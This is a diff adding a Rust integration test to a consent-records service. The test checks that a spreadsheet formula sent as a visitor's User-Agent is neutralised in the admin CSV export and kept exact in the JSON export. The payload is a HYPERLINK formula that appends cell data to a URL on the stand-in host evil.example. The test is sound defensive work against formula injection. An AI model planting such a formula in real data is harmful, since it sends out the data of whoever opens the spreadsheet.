@@ -18,6 +18,7 @@ use serde_json::json;
 
 both_backends!(
     admins_filter_count_and_export_consent_records,
+    a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json,
     the_audit_log_filters_by_action_actor_and_day,
 );
 
@@ -149,6 +150,82 @@ async fn admins_filter_count_and_export_consent_records(backend: Backend) {
         "{exports:?}"
     );
     assert!(exports[1].1.contains("action deny"), "{exports:?}");
+}
+
+/// A visitor's `User-Agent` is kept as evidence; opened in a spreadsheet, the CSV must show it
+/// as text, not run it as a formula. The JSON keeps it exactly, and both keep milliseconds.
+async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let formula = r#"=HYPERLINK("https://evil.example/?d="&A1,"Click me")"#;
+    let version = active(&app.db)
+        .await
+        .expect("read")
+        .expect("active")
+        .version;
+    let response = app
+        .client
+        .post(app.url("/api/consent"))
+        .header(header::USER_AGENT, formula)
+        .json(&json!({
+            "method": "accept_all",
+            "choices": { "analytics": true, "marketing": true, "preferences": true },
+            "configuration_version": version,
+            "idempotency_key": "formula-0001",
+            "locale": "en",
+        }))
+        .send()
+        .await
+        .expect("request");
+    assert_eq!(response.status(), StatusCode::CREATED);
+    let admin = signed_in(&app, "ada@example.com", Role::Admin).await;
+    let export = |format: &str| {
+        app.client
+            .get(app.url(&format!("/admin/consent/export?format={format}")))
+            .header(header::COOKIE, &admin.cookie)
+            .send()
+    };
+
+    let csv = export("csv")
+        .await
+        .expect("request")
+        .text()
+        .await
+        .expect("body");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().expect("a header row").clone();
+    let column = |name: &str| {
+        headers
+            .iter()
+            .position(|header| header == name)
+            .expect("a column")
+    };
+    let row = reader
+        .records()
+        .next()
+        .expect("one event")
+        .expect("a record");
+    assert_eq!(row[column("user_agent")], format!("'{formula}"), "{csv}");
+    let recorded_at = &row[column("recorded_at")];
+    assert!(
+        recorded_at.len() == "2026-11-23T04:00:00.123Z".len()
+            && recorded_at.as_bytes()[19] == b'.'
+            && recorded_at.ends_with('Z'),
+        "milliseconds are kept: {recorded_at}"
+    );
+
+    let events: Vec<serde_json::Value> = export("json")
+        .await
+        .expect("request")
+        .json()
+        .await
+        .expect("a JSON array");
+    assert_eq!(events[0]["user_agent"], formula);
+    let millis = events[0]["recorded_at"].as_i64().expect("milliseconds");
+    assert_eq!(
+        app::clock::Timestamp::from_millis(millis).rfc3339_millis(),
+        recorded_at,
+        "the CSV's time is the JSON's"
+    );
 }
 
 async fn the_audit_log_filters_by_action_actor_and_day(backend: Backend) {
